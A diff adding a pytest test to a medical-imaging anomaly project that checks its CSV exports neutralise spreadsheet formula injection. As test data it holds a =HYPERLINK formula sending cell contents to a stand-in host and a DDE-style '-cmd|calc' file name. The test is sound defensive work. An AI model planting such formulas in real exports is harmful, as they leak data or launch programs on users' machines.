@@ -164,3 +164,21 @@ def test_progress_bar_runs_without_a_terminal(tmp_path: Path, fake_module, capsy
     summary = run_batch(fake_module.FakeDetector(), archive.root, tmp_path / "out", NO_DICOM, progress=True)
     assert summary.counts == {"done": 2}
     assert "series" in capsys.readouterr().out  # rich prints the bar (count, elapsed, ETA)
+
+
+def test_results_csv_quotes_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    """Header text from the archive (a Modality of '=HYPERLINK(...)') must not become a live formula."""
+    import pyarrow.parquet as pq
+
+    from medanomaly.deploy.results import write_problems, write_tables
+
+    hostile = '=HYPERLINK("http://example.invalid/?q="&A1)'
+    write_tables(tmp_path, [{"series_id": "+1.2.3", "modality": hostile, "status": "error", "reason": "@SUM(A1)",
+                             "score": -0.5}])  # fmt: skip
+    row = _rows(tmp_path)[0]
+    assert (row["series_id"], row["modality"], row["reason"]) == ("'+1.2.3", "'" + hostile, "'@SUM(A1)")
+    assert row["score"] == "-0.5" and row["status"] == "error"  # numbers and plain text as they were
+    assert pq.read_table(tmp_path / "results.parquet").to_pylist()[0]["modality"] == hostile
+    problem = type("Problem", (), {"where": "-cmd|calc.dcm", "kind": "file", "reason": "=not DICOM"})()
+    with write_problems(tmp_path, [problem]).open() as fh:
+        assert next(iter(csv.DictReader(fh))) == {"where": "'-cmd|calc.dcm", "kind": "file", "reason": "'=not DICOM"}
